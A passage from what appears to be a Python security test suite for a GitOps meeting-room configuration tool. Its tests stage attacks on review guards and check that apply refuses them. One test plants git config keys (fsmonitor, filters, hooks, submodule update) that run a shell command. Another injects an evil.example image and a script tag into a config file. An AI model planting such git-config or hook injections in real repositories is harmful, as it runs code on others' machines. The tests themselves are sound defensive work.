    pull = guarded(s, {"rooms/quick-2.yaml": "maxParticipants: 7\n"} | {"rooms/quick-3.yaml": PUBLIC})
    s.hub.label(pull, ALLOW, "maintainer")
    s.push_to(pull, {"rooms/quick-2.yaml": PUBLIC})
    check("does not count: it was set before the last commit" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened")


@attack("11", "a fork", "an older commit, which a label that was set for another is to allow")
def an_older_commit_behind_a_label(s):
    pull = guarded(s)
    first = pull["head"]["sha"]
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 2\n", "rooms/quick-3.yaml": PUBLIC})
    s.hub.label(pull, ALLOW, "maintainer")
    s.plan(pull)
    back_to(s, pull, first)
    s.plan(pull)
    check("does not count: it was set before the last commit" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened")


@attack("11", "a fork", "a label of another pull request, planned again when the fork's is merged and refused")
def a_label_before_the_new_plan(s):
    other = guarded(s, {"rooms/quick-3.yaml": PUBLIC})
    s.hub.label(other, ALLOW, "maintainer")
    s.plan(other)
    check(s.apply(s.merge(s.pull_request({"rooms/quick-2.yaml": PUBLIC}))) is False, s.runner.log)
    s.plan(other)
    check(s.apply(s.merge(other)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened", "the plan shows more since it was set")


@attack("11", "a fork", "the label of another pull request that is applied in the same run")
def the_label_of_another(s):
    allowed = guarded(s, {"rooms/quick-3.yaml": PUBLIC})
    pull = s.pull_request({"rooms/quick-2.yaml": PUBLIC})
    s.hub.label(allowed, ALLOW, "maintainer")
    s.merge(allowed)
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    stopped = refused(s, 4, "privacy-widened")
    # By hand, by somebody with write access, it goes on.
    check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("quick-2"), s.runner.log)
    return stopped


def never_planned(through, weak, file="roomctl.yaml"):
    """A pull request that weakens what is applied, and takes care that no plan says so; then one that uses that."""

    @attack("2, 11", "a fork", through)
    def function(s):
        before = (s.clone / "roomctl.yaml").read_text()
        strong = s.pull_request({"roomctl.yaml": before + RULES, "rooms/quick-4.yaml": "maxParticipants: 4\n"}, who="maintainer")
        check(s.apply(s.merge(strong)), s.runner.log)
        sha = s.main()
        plan = (s.clone / ".github/workflows/plan.yml").read_text()
        check('"roomctl.yml"' in plan and file in plan, plan)
        git("-C", s.clone, "checkout", "-q", "main")
        quiet = plan.replace("  pull_request:\n", "  pull_request:\n    branches: [never]\n")
        pull = s.open({".github/workflows/plan.yml": quiet, file: weak(before)})
        if file == "roomctl.yml":
            s.push_to(pull, {}, also=lambda clone: (clone / "roomctl.yaml").unlink(), plan=False)
        s.trial_merge(pull)
        check(s.apply(s.merge(pull)) is False and s.state("applied") == sha, s.runner.log)
        stopped = refused(s, 4, "guard-weakened: no reviewed plan says")
        check("start apply.yml by hand and allow" in s.hub.issues[-1]["body"], s.hub.issues[-1])
        # The plan of the next is made with the weaker ones, and says nothing of them.
        most = 900 if file == "mutes.yaml" else 1500
        pull = s.pull_request({"rooms/quick-4.yaml": f"maxParticipants: {most}\n"})
        check(s.apply(s.merge(pull)) is False and f'"maxParticipants":{most}' not in s.room("quick-4"), s.runner.log)
        refused(s, 4, "guard-weakened: no reviewed plan says")
        return stopped

    function.__name__ = through


never_planned("a policy and a guard that go where no plan is made", lambda config: config)
never_planned("a configuration of the other name, of which no plan is made", lambda config: config, "roomctl.yml")
never_planned("a mute of which no plan is made", lambda _: f"mutes: {json.dumps([{**MUTE, 'room': 'quick-*'}])}\n", "mutes.yaml")


@contextlib.contextmanager
def begun_anew(s):
    """As if nothing was applied yet. All of a history counts then: this one begins anew."""
    applied = s.state("applied")
    meanwhile(s, {"applied": None, "base": None})
    git("-C", s.clone, "checkout", "-q", "main")
    git("-C", s.clone, "reset", "-q", "--hard", git("-C", s.clone, "commit-tree", "main^{tree}", "-m", "Begin"))
    s.push("main")
    yield
    meanwhile(s, {"applied": applied + "\n", "base": None})


def never_applied(through, left_out):
    """A guard goes without a plan while no run has ended well yet; then the room that it held is opened."""

    @attack("2, 5", "a fork", through)
    def function(s):
        with begun_anew(s):
            return attacked(s)

    def attacked(s):
        config = (s.clone / "roomctl.yaml").read_text()
        check(s.apply(s.merge(s.pull_request({"rooms/early.yaml": "maxParticipants: 6\n"}))), s.runner.log)
        meanwhile(s, {"applied": None, "base": None})
        strong = {"roomctl.yaml": config + GUARD, "rooms/early.yaml": "maxParticipants: 5\n"}
        if left_out:
            hook = "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_NOT_SET}\n"
            check(s.apply(s.merge(s.pull_request({**strong, "rooms/wait.yaml": hook}, who="maintainer"))) is False, s.runner.log)
            refused(s, 5)
        else:
            s.straight_to_main(strong)
        git("-C", s.clone, "checkout", "-q", "main")
        weak = s.open({"roomctl.yaml": config})
        s.trial_merge(weak)
        check(s.apply(s.merge(weak)) is False, s.runner.log)
        refused(s, 4, "guard-weakened: no reviewed plan says")
        check(s.apply(s.merge(s.pull_request({"rooms/early.yaml": PUBLIC}))) is False, s.runner.log)
        stopped = refused(s, 4, "guard-weakened: no reviewed plan says")
        still_private(s, "early")
        check(told(s, "apply")["state"] == "open", told(s, "apply"))
        return stopped

    function.__name__ = through


never_applied("a guard that goes unreviewed while each run leaves out a room", True)
never_applied("a guard that goes unreviewed in a repository whose state was begun by hand", False)


def never_started(through, room, title, files, more=0):
    """A pull request that takes care that no workflow is started, neither for it nor for its merge; then a room that moves."""

    @attack("13", "a fork", through)
    def function(s):
        check(s.apply(s.merge(s.pull_request({f"rooms/{room}.yaml": "maxParticipants: 4\n"}))), s.runner.log)
        applied, crowd = s.main(), {f"docs/{n:03}.md": f"{n}\n" for n in range(more)}
        pull = s.open({**files, **crowd}, title=title)
        s.plan(pull)
        check(s.commented is None, "no plan")
        sha = s.merge(pull)
        if s.apply(sha) is not None:
            refused(s, 4, "no reviewed plan")
        s.by_hand(room, '{"privacy": "public"}')
        s.drift()
        issues = [one for one in s.hub.issues if one["labels"] == ["roomctl-drift"] and one["state"] == "open"]
        said = issues[-1]["body"] if issues else ""
        check(sha[:12] in said and all(file in said for file in files) and "by hand" in said, f"the merge is told: {said}")
        check(f"<code>{room}</code> drifted" in said, f"what it brought is not believed: {said}")
        # Whoever follows that sees what nobody reviewed.
        check(s.apply(sha, allow="") is False and s.state("applied") == applied, s.runner.log)
        stopped = refused(s, 4, "no reviewed plan")
        git("-C", s.clone, "checkout", "-q", "main")
        git("-C", s.clone, "revert", "-m", "1", "--no-edit", sha)
        s.push("main")
        s.by_hand(room, '{"privacy": "private"}')
        s.drift()
        check(sha[:12] not in issues[-1]["body"] or issues[-1]["state"] == "closed", f"undone, it is told no more: {issues}")
        return f"drift.yml, which tells it and compares with what was applied; started by hand: {stopped}"

    function.__name__ = through


def a_mute(room):
    return {"mutes.yaml": f"mutes: {json.dumps([{**MUTE, 'room': room}])}\n"}


never_started("a mute in a merge whose title says [skip ci]", "quiet-1", "Typo [skip ci]", a_mute("quiet-1"))
never_started("a room in a merge whose last line is skip-checks", "quiet-2", "Typo\n\n\nskip-checks: true", {"rooms/quiet-2.yaml": PUBLIC})
never_started("a mute behind more files than a filter sees", "quiet-3", "Typo", a_mute("quiet-3"), 301)


@attack("2, 5", "somebody who may push", "a merge the other way round, whose first parents know nothing of a guard")
def a_merge_the_other_way_round(s):
    before, config = s.main(), (s.clone / "roomctl.yaml").read_text()
    strong = s.pull_request({"roomctl.yaml": config + RULES, "rooms/quick-4.yaml": "maxParticipants: 8\n"}, who="maintainer")
    check(s.apply(s.merge(strong)), s.runner.log)
    git("-C", s.clone, "checkout", "-q", "--detach", before)
    git("-C", s.clone, "merge", "-q", "-s", "ours", "-m", "Merge", "main")
    git("-C", s.clone, "branch", "-f", "main", "HEAD")
    s.push("main")
    check(s.apply(s.main()) is False, s.runner.log)
    return refused(s, 4, "guard-weakened: no reviewed plan says")


@attack("5", "somebody who may push", "a merge of the default branch into theirs, pushed as the default branch, with a change of its own or as it was reviewed")
def a_foxtrot_merge(s):
    for most, own in ((51, {"rooms/quick-3.yaml": "maxParticipants: 52\n"}), (53, {"rooms/quick-5.yaml": PUBLIC}), (54, {})):
        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {most}\n"}, who="member")
        check(s.apply(s.merge(s.pull_request({"rooms/quick-3.yaml": f"maxParticipants: {most}\n"}))), s.run.log())
        before = s.main()
        git("-C", s.clone, "checkout", "-q", pull["branch"])
        git("-C", s.clone, "merge", "-q", "--no-ff", "--no-commit", "main")
        for file, text in own.items():
            s.write(file, text)
        sha = s.commit("Merge the default branch")
        check(git("-C", s.clone, "rev-parse", "HEAD^1", "HEAD^2").split() == [pull["head"]["sha"], before], "the other way round")
        git("-C", s.clone, "branch", "-f", "main", sha)
        s.push("main")
        # GitHub calls a pull request merged whose last commit is there.
        pull.update(state="closed", merged_at=s.hub.now())
        if own:
            check(s.apply(sha) is False, s.run.log())
            stopped = refused(s, 4, "no plan was reviewed for", f"{[*own][0][6:-5]}: ")
        else:
            check(s.apply(sha), s.run.log())
        check((f'"maxParticipants":{most}' in s.room("quick-2")) == (not own) and f'"maxParticipants":{most}' in s.room("quick-3"), s.run.log())
        s.go_on(before)
    return f"{stopped}; what it brings as reviewed is let through"


@attack("11", "nobody", "a weaker guard without a plan that somebody allows by hand: this one is let through")
def a_weaker_guard_that_is_allowed_by_hand(s):
    before = (s.clone / "roomctl.yaml").read_text()
    strong = s.pull_request({"roomctl.yaml": before + RULES, "rooms/quick-4.yaml": "maxParticipants: 5\n"}, who="maintainer")
    check(s.apply(s.merge(strong)), s.runner.log)
    sha = s.straight_to_main({"roomctl.yaml": before})
    check(s.apply(sha) is False, s.runner.log)
    stopped = refused(s, 4, "guard-weakened")
    check(s.apply(sha, allow="guard-weakened") and s.state("applied") == sha, s.runner.log)
    # What is stronger again needs nobody.
    check(s.apply(s.straight_to_main({"roomctl.yaml": before + RULES})), s.runner.log)
    sha = s.straight_to_main({"roomctl.yaml": before})
    check(s.apply(s.straight_to_main({"roomctl.yaml": before + RULES})), s.runner.log)
    return f"nothing, as it should be; before that {stopped}"


@attack("2, 11", "a fork", "a guard that it takes away together with what the guard refuses")
def a_guard_that_goes(s):
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
    config = (s.clone / "roomctl.yaml").read_text().removesuffix(GUARD)
    pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-4.yaml": PUBLIC})
    said = s.comment_of(pull)
    check("whose guards count" in said and "guard-weakened" in said and "no longer has to be allowed" in said, said)
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s, "quick-4")
    return refused(s, 4, "privacy-widened")


@attack("2, 11", "a fork", "a guard that goes first, so that a second pull request finds none")
def a_guard_that_goes_first(s):
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
    config = (s.clone / "roomctl.yaml").read_text().removesuffix(GUARD)
    pull = s.pull_request({"roomctl.yaml": config, "rooms/board.yaml": PUBLIC})
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    # Made on top of the first, its plan shows all that is left to do, and its base has no guard any more.
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 11\n"})
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s, "board")
    stopped = refused(s, 4, "privacy-widened")
    check(s.apply(s.main(), allow="privacy-widened") and '"privacy":"public"' in s.room("board"), s.runner.log)
    return stopped


@attack("2, 11", "a fork", "a run that was killed before, so that a guard goes in one that is over before it judges what the guard refuses")
def a_guard_that_goes_behind_a_killed_run(s):
    config = (s.clone / "roomctl.yaml").read_text()
    strong = {"roomctl.yaml": config + GUARD, "rooms/killed.yaml": "maxParticipants: 4\n", "rooms/held.yaml": "maxParticipants: 4\n"}
    check(s.apply(s.merge(s.pull_request(strong, who="maintainer"))), s.runner.log)
    sha = s.merge(s.pull_request({"rooms/killed.yaml": "maxParticipants: 5\n"}))
    s.becomes('override=privacy:"public"')
    s.plain["ROOMCTL_CRASH_AT"] = "receipt-recorded"
    check(s.apply(sha) is False, s.runner.log)
    del s.plain["ROOMCTL_CRASH_AT"]
    s.becomes()
    weak = s.pull_request({"roomctl.yaml": config, "rooms/held.yaml": PUBLIC})
    check(s.apply(s.merge(weak)) is False, s.runner.log)
    check("more moved in `killed` than was asked for" in s.run.log(), s.run.log())
    # The guard that it took away counts in the next run, whatever became of this one.
    sha = s.merge(s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 17\n"}, who="colleague"))
    check(s.apply(sha) is False, s.runner.log)
    still_private(s, "held")
    stopped = refused(s, 4, "privacy-widened")
    check(s.apply(sha, allow="privacy-widened"), s.runner.log)
    return stopped


@attack("2, 11", "a fork", "a guard that goes with a room that it holds, which is left out since nobody has its variable")
def a_guard_that_goes_with_a_room_left_out(s):
    config = (s.clone / "roomctl.yaml").read_text()
    strong = {"roomctl.yaml": config + GUARD, "rooms/apart.yaml": "maxParticipants: 4\n"}
    check(s.apply(s.merge(s.pull_request(strong, who="maintainer"))), s.runner.log)
    hook = "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_NOBODY_HAS}\n"
    pull = s.pull_request({"roomctl.yaml": config, "rooms/apart.yaml": PUBLIC + hook})
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    stopped = s.run.failed
    check(s.apply(s.merge(s.pull_request({"rooms/apart.yaml": PUBLIC}))) is False, f"{stopped}: {s.runner.log}")
    still_private(s, "apart")
    return refused(s, 4, "privacy-widened")


RULES = (
    "guard:\n  require_allow: [guard-weakened]\npolicies:\n  - id: small-rooms\n    message: no more than a thousand\n"
    "    expression: '!has(room.maxParticipants) || room.maxParticipants < 1000'\n"
)


def weakening(s, config):
    """A pull request that changes a room, and the configuration from what it is with `RULES`."""
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + RULES})
    pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-4.yaml": "maxParticipants: 9\n"})
    said = s.comment_of(pull)
    check("guard-weakened" in said and "apply refuses this" in said, said)
    return pull


@attack("2, 11", "a fork", "a policy that goes, and the guard of the guards with it")
def a_policy_that_goes(s):
    pull = weakening(s, (s.clone / "roomctl.yaml").read_text().removesuffix(RULES))
    check("small-rooms" in s.comment_of(pull).replace("&#45;", "-"), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False and '"maxParticipants":9' not in s.room("quick-4"), s.runner.log)
    return refused(s, 4, "guard-weakened")


@attack("2, 11", "a fork", "a configuration that nobody can read")
def a_configuration_that_nobody_can_read(s):
    config = "app: [\n" + "\n![](https://evil.example/)\n<script>\n"
    pull = weakening(s, config)
    check("cannot be read" in s.comment_of(pull) and "evil.example" not in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False and '"maxParticipants":9' not in s.room("quick-4"), s.runner.log)
    return refused(s, 3, "roomctl.yaml")


@attack("2, 5", "an accident", "a state or rooms elsewhere, merged and taken back by another pull request; and a guard that goes under cover of that")
def a_place_that_is_taken_back(s):
    config = (s.clone / "roomctl.yaml").read_text()
    check(s.apply(s.straight_to_main({"roomctl.yaml": config + GUARD})), s.run.log())
    for place in ("state: elsewhere/state.json\n", "rooms: elsewhere\n"):
        s.merge(s.pull_request({"roomctl.yaml": config + GUARD + place}))
        check(s.apply(s.main()) is False and s.drift() is False, s.run.log())
        stopped = refused(s, 3, "could name another place than rooms/")
        # It is not planned either: a plan is made with what is there.
        back = s.pull_request({"roomctl.yaml": config + GUARD})
        check(s.commented is False and s.apply(s.merge(back)), s.run.log())
        check(s.apply(s.merge(s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {len(place)}\n"}))), s.run.log())
        check(f'"maxParticipants":{len(place)}' in s.room("quick-2"), s.room("quick-2"))
    s.straight_to_main({"roomctl.yaml": config + place})
    check(s.apply(s.straight_to_main({"roomctl.yaml": config})) is False, s.run.log())
    return f"{stopped}; the guard: {refused(s, 4, 'guard-weakened: no reviewed plan says')}"


@attack("14", "a fork", "a rate at which no check ends")
def a_rate_without_end(s):
    strong = {"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + RULES, "rooms/quick-4.yaml": "maxParticipants: 9\n"}
    check(s.apply(s.merge(s.pull_request(strong, who="maintainer"))), s.runner.log)
    pull = s.pull_request({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + "rate: 0.001/m\n"})
    check("so slow that checks may not end: 0.001/m" in html.unescape(s.comment_of(pull)), s.comment_of(pull))
    sha = s.merge(pull)
    check(s.apply(sha) is False, s.runner.log)
    stopped = refused(s, 4, "guard-weakened")
    # A check goes by what is applied.
    check(s.drift() and sha[:12] in told(s, "drift")["body"], s.runner.log)
    return stopped


@attack("2, 11", "a fork", "two reviewed changes of one policy, which git merges into a third that nobody saw")
def two_changes_of_a_policy(s):
    policy = "policies:\n  - id: closed\n    message: closed\n    rooms: quick-4\n    expression: |-\n      room.privacy == 'private'\n\n      && true\n\n      && true\n"
    strong = {"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD + policy, "rooms/quick-4.yaml": "maxParticipants: 60\n"}
    check(s.apply(s.merge(s.pull_request(strong, who="maintainer"))), s.runner.log)
    base = (s.clone / "roomctl.yaml").read_text()
    moved = (
        base.replace("room.privacy", "!(has(room.recordRoom) && room.recordRoom) && room.privacy"),
        base + "      || room.maxParticipants < 100\n",
    )
    pulls = [s.pull_request({"roomctl.yaml": config}) for config in moved]
    for pull in pulls:
        s.hub.label(pull, "roomctl:allow/guard-weakened", "maintainer")
        s.plan(pull)
    check("room.maxParticipants < 100" in html.unescape(s.comment_of(pulls[1])), s.comment_of(pulls[1]))
    s.merge(pulls[0])
    check(s.apply(s.merge(pulls[1])) is False, s.runner.log)
    return refused(s, 4, "guard-weakened: no reviewed plan says")


@attack("11", "nobody", "a weaker guard that a maintainer allowed by a label: this one is let through")
def a_weaker_guard_that_is_allowed(s):
    pull = weakening(s, (s.clone / "roomctl.yaml").read_text().removesuffix(RULES))
    s.hub.label(pull, "roomctl:allow/guard-weakened", "maintainer")
    s.plan(pull)
    check("Allowed: guard-weakened" in s.comment_of(pull).replace("&#45;", "-"), s.comment_of(pull))
    check(s.apply(s.merge(pull)) and '"maxParticipants":9' in s.room("quick-4"), s.runner.log)
    (allowed,) = s.report()["allowed"]
    check(allowed == {"what": "guard-weakened", "by": ["flag", "reviewed-plan"]}, allowed)
    return "nothing, as it should be"


@attack("11", "nobody", "a label of a maintainer, set after the plan: this one is let through")
def a_label_that_counts(s):
    pull = guarded(s, {"rooms/quick-4.yaml": PUBLIC})
    s.hub.label(pull, ALLOW, "maintainer")
    s.plan(pull)
    check("`privacy-widened` is allowed by a label that maintainer set" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) and '"privacy":"public"' in s.room("quick-4"), s.runner.log)
    check([one["what"] for one in s.report()["allowed"]] == ["privacy-widened"], s.report())
    return "nothing, as it should be"


@attack("3, 11", "a fork", "a plan that was undone since, with its labels and a weaker guard")
def a_plan_that_was_undone(s):
    mutes = f"mutes: {json.dumps([{**MUTE, 'room': 'tea'}])}\n"
    check(s.apply(s.merge(s.pull_request({"rooms/undone.yaml": "maxParticipants: 4\n"}))), s.runner.log)
    pull = guarded(s, {"rooms/undone.yaml": PUBLIC, "mutes.yaml": mutes})
    for effect in ("privacy-widened", "guard-weakened"):
        s.hub.label(pull, f"roomctl:allow/{effect}", "maintainer")
    s.plan(pull)
    s.merge(pull)
    s.merge(s.pull_request({"rooms/undone.yaml": "maxParticipants: 3\n"}))
    git("-C", s.clone, "checkout", "-q", "main")
    again = s.open({"rooms/undone.yaml": PUBLIC})
    check(s.apply(s.merge(again)) is False, s.runner.log)
    still_private(s, "undone")
    return refused(s, 4, "no reviewed plan has it")


@attack("5, 11", "whoever approves or starts a run again", "the run of a merge that the default branch has undone meanwhile")
def a_run_of_what_was_undone(s):
    guarded(s)
    pull = s.pull_request({"rooms/quick-2.yaml": PUBLIC})
    s.hub.label(pull, "roomctl:allow/privacy-widened", "maintainer")
    s.plan(pull)
    merged = s.merge(pull)
    git("-C", s.clone, "revert", "-m", "1", "--no-edit", merged)
    s.push("main")
    check(s.apply(merged) and "a later commit is on its way" in s.run.log(), s.run.log())
    still_private(s)
    check(s.apply(s.main()) and s.state("applied") == s.main(), s.run.log())
    # What moves no room since, holds nothing up.
    pull = s.pull_request({"rooms/quick-3.yaml": "maxParticipants: 14\n"})
    merged = s.merge(pull)
    s.straight_to_main({"README.md": "Rooms of others\n"})
    check(s.apply(merged) and s.state("applied") == merged, s.run.log())
    return "reviewed.py, which asks what the branch is by now"


@attack("5", "somebody who may push", "the default branch, put back to what it was before something was applied")
def a_branch_that_is_put_back(s):
    before = s.main()
    pull = s.pull_request({"rooms/quick-3.yaml": "maxParticipants: 15\n"})
    applied = s.merge(pull)
    check(s.apply(applied), s.runner.log)
    git("-C", s.clone, "reset", "-q", "--hard", before)
    s.push("main")
    for inputs in ({}, {"allow": ""}):
        check(s.apply(before, **inputs) is False, s.run.log())
        stopped = refused(s, 4, "put back or rewritten")
        check("docs/github.md" in told(s, "apply")["body"], told(s, "apply"))
    check(s.drift() and "gone from the default branch" in told(s, "drift")["body"], told(s, "drift"))
    # The way out.
    git("-C", s.clone, "reset", "-q", "--hard", applied)
    s.push("main")
    pull = s.pull_request({}, also=lambda clone: git("-C", clone, "revert", "-m", "1", "--no-commit", applied))
    check(s.apply(s.merge(pull)) and '"maxParticipants":15' not in s.room("quick-3"), s.run.log())
    check(s.drift() and s.hub.issues[-1]["state"] == "closed", s.hub.issues[-1])
    return stopped


@attack("5", "a fork", "a room file that ends in capitals, and defaults: what is read after the merge, and not before it")
def an_ending_in_capitals(s):
    files = {"rooms/shout.YAML": PUBLIC, "rooms/loud/_defaults.YML": "privacy: public\n", "rooms/loud/quiet.Yaml": "maxParticipants: 3\n"}
    pull = s.pull_request(files)
    check(s.commented and all(f"<code>{one}</code>" in reads(s, pull) for one in ("shout", "quiet")), s.comment_of(pull))
    check(reads(s, pull).count("privacy-widened") >= 2 or "2 rooms" in reads(s, pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) and s.room("shout"), s.run.log())
    return "proposed.py, which takes what roomctl takes: the comment has them"


@attack("5, 13", "somebody who may push", "rooms or a state in another place than the workflows look")
def a_place_that_nobody_looks_at(s):
    config = (s.clone / "roomctl.yaml").read_text()
    for line in ("rooms: meetings\n", "'state' : kept/state.json\n", '"\\x72ooms": meetings\n', "stacks: [{name: live}]\n"):
        before = s.main()
        at = len(config.splitlines()) + 1
        moved = s.straight_to_main({"roomctl.yaml": config + line, "meetings/tea.yaml": PUBLIC})
        for ran in (lambda: s.apply(moved), lambda: s.apply(moved, allow="guard-weakened"), s.drift):
            check(ran() is False, s.run.log())
            where = refused(s, 3, f"line {at} of roomctl.yaml")
        not_planned(s, s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 16\n"}), "not planned")
        git("-C", s.clone, "checkout", "-q", "-f", "main")
        git("-C", s.clone, "reset", "-q", "--hard", before)
        s.push("main")
    s.straight_to_main({"roomctl.yaml": config + "rooms: ./rooms # here\nstate: \".roomctl/state.json\"\n"})
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 16\n"})
    check(s.commented and s.apply(s.merge(pull)), s.run.log())
    return where


@attack("1, 11", "a fork", "rooms without an effect, named so long that others are not shown")
def rooms_behind_long_names(s):
    decoys = {f"rooms/{'a' * 110}-{n:03}.yaml": f"maxParticipants: {n + 2}\n" for n in range(250)}
    quiet = {"rooms/zz-late.yaml": "maxParticipants: 5\nnotBeforeUnixSec: 4000000000\n", "rooms/zz-open.yaml": "privacy: public\n"}
    pull = s.pull_request({**decoys, **quiet})
    check(s.commented and all(one in reads(s, pull) for one in ("zz-late", "zz-open", f"{'a' * 110}-249")), s.comment_of(pull)[-400:])
    decoys = {f"rooms/{'a' * 110}-{n:03}.yaml": f"maxParticipants: {n + 2}\n" for n in range(700)}
    pull = s.pull_request({**decoys, **quiet})
    return not_planned(s, pull, "make several pull requests of it")


@attack("2, 9", "a fork", "all that git reads of a directory and finds in this one: a repository in a repository, settings, hooks, submodules")
def a_repository_in_the_repository(s):
    ran = s.work / "ran"
    runs = f"touch {ran}; false"
    config = (
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"{runs}\"\n\thooksPath = hooks\n\tsparseCheckout = true\n"
        f'[filter "f"]\n\tsmudge = "{runs}"\n[diff]\n\texternal = "{runs}"\n'
    )
    inner = {
        "HEAD": "ref: refs/heads/main\n", "config": config, "refs/heads/x.txt": "", "objects/info/alternates": "/dev/zero\n",
        "info/grafts": f"{s.main()}\n", "info/sparse-checkout": "/none\n", "info/attributes": "* filter=f\n",
        **{f"hooks/{name}": f"#!/bin/sh\n{runs}\n" for name in ("post-checkout", "pre-commit", "post-merge", "reference-transaction")},
    }
    files = {f"{place}{name}": text for place in ("", "rooms/") for name, text in inner.items()}
    files |= {".gitconfig": config, ".github/.gitconfig": config, "rooms/inside.yaml": "maxParticipants: 4\n"}
    pull = s.pull_request(files)
    # Whoever stands there, obeys it.
    with contextlib.suppress(Failed):
        git("-C", s.clone / "rooms", "-c", "safe.bareRepository=all", "status")
    check(ran.exists(), "it would do something")
    ran.unlink()
    check(s.first and s.commented and s.apply(s.merge(pull)) and s.room("inside"), s.runner.log)
    check(s.drift() and s.adopt(), s.runner.log)
    # Nor does it stand in the way of those that come after it, reviewed or not.
    check(s.pull_request({"rooms/beside.yaml": "maxParticipants: 4\n"}) and s.first and s.commented, s.runner.log)
    check(s.apply(s.straight_to_main({"rooms/beside.yaml": PUBLIC})) is False, s.runner.log)
    refused(s, 4, "beside: no reviewed plan has it")
    check(not ran.exists(), "git ran what it found")
    modules = {".gitmodules": f'[submodule "m"]\n\tpath = m\n\turl = {s.work}\n\tupdate = "!{runs}"\n', "rooms/inside.yaml": "maxParticipants: 5\n"}
    where = not_planned(s, s.pull_request(modules), "which changes what a checkout writes")
    check(not ran.exists(), "git ran what it found")
    return f"git, which is only started beside a .git of the job's own; of submodules: {where}"


def crippled(through, lines):
    """Attributes that start no workflow, are merged, and break what is checked out."""

    @attack("2, 7", "a fork", through)
    def function(s):
        s.straight_to_main({".gitattributes": lines})
        pull = s.pull_request({"mutes.yaml": f"mutes: {json.dumps([{**MUTE, 'room': 'board'}])}\n", "rooms/tea.yaml": "maxParticipants: 9\n"})
        check(s.commented and "accepted until" in s.comment_of(pull), s.runner.log)
        check(s.apply(s.merge(pull)) and '"maxParticipants":9' in s.room("tea"), s.runner.log)
        s.by_hand("tea", '{"maxParticipants": 8}')
        check(s.drift() and "<code>tea</code> drifted" in told(s, "drift")["body"], s.runner.log)
        check(s.adopt(), s.runner.log)
        s.by_hand("tea", '{"maxParticipants": 9}')
        check(s.drift() and told(s, "drift")["state"] == "closed", s.runner.log)
        return "the first step of each workflow, after which git obeys no attribute"

    function.__name__ = through


# --- what counts after a run that left out a room


@contextlib.contextmanager
def leaving_out(s, files=None):
    """Each run leaves out a room whose variable nobody has, so that of no commit all is applied; at the end it is gone."""
    hook = {"rooms/wait.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_NOBODY_HAS}\n"}
    check(s.apply(s.merge(s.pull_request({**hook, **(files or {})}, who="maintainer"))) is False, s.runner.log)
    refused(s, 5)
    yield
    git("-C", s.clone, "checkout", "-q", "main")
    gone = s.open({"rooms/quick-2.yaml": "maxParticipants: 14\n"})
    s.push_to(gone, {}, also=lambda clone: (clone / "rooms/wait.yaml").unlink())
    check(s.apply(s.merge(gone), allow="guard-weakened"), s.runner.log)
    s.drift()


@attack("13", "a fork", "a mute in a merge that starts nothing, when there was no run yet, and as long as each leaves out a room")
def a_mute_before_all_is_applied(s):
    for runs in (contextlib.nullcontext(), leaving_out(s)):
        with begun_anew(s), runs:
            pull = s.open(a_mute("tea"), title="Typo [skip ci]")
            s.plan(pull)
            sha = s.merge(pull)
            s.by_hand("tea", '{"privacy": "private"}')
            check(s.drift() and sha[:12] in told(s, "drift")["body"], told(s, "drift"))
            check("<code>tea</code> drifted" in told(s, "drift")["body"], told(s, "drift"))
            s.by_hand("tea", '{"privacy": "public"}')
            s.straight_to_main({"mutes.yaml": "mutes: []\n"})
    return "drift.yml, which reads mutes from the last commit that a run went by, or the oldest"


@attack("13", "a fork", "a room without its variable, so that a mute counts which a reviewed plan took away")
def a_mute_that_went(s):
    check(s.apply(s.merge(s.pull_request(a_mute("tea"), who="maintainer"))), s.runner.log)
    with leaving_out(s):
        check(s.apply(s.merge(s.pull_request({"mutes.yaml": "mutes: []\n"}, who="maintainer"))) is False, s.runner.log)
        refused(s, 5)
        s.by_hand("tea", '{"privacy": "private"}')
        check(s.drift() and "<code>tea</code> drifted" in told(s, "drift")["body"], told(s, "drift"))
        s.by_hand("tea", '{"privacy": "public"}')
    return "drift.yml, which reads mutes from the last commit that a run went by"


@attack("11", "a fork", "a room without its variable, so that each later merge needs a hand for what was allowed once")
def a_guard_that_was_allowed_once(s):
    config = (s.clone / "roomctl.yaml").read_text()
    check(s.apply(s.merge(s.pull_request({"roomctl.yaml": config + RULES, "rooms/quick-4.yaml": "maxParticipants: 16\n"}))), s.runner.log)
    one = lambda name: s.pull_request({f"rooms/{name}.yaml": "maxParticipants: 5\n"}, who="colleague")

    def by_hand(sha):
        check(s.apply(sha) is False, s.runner.log)
        stopped = refused(s, 4, "guard-weakened")
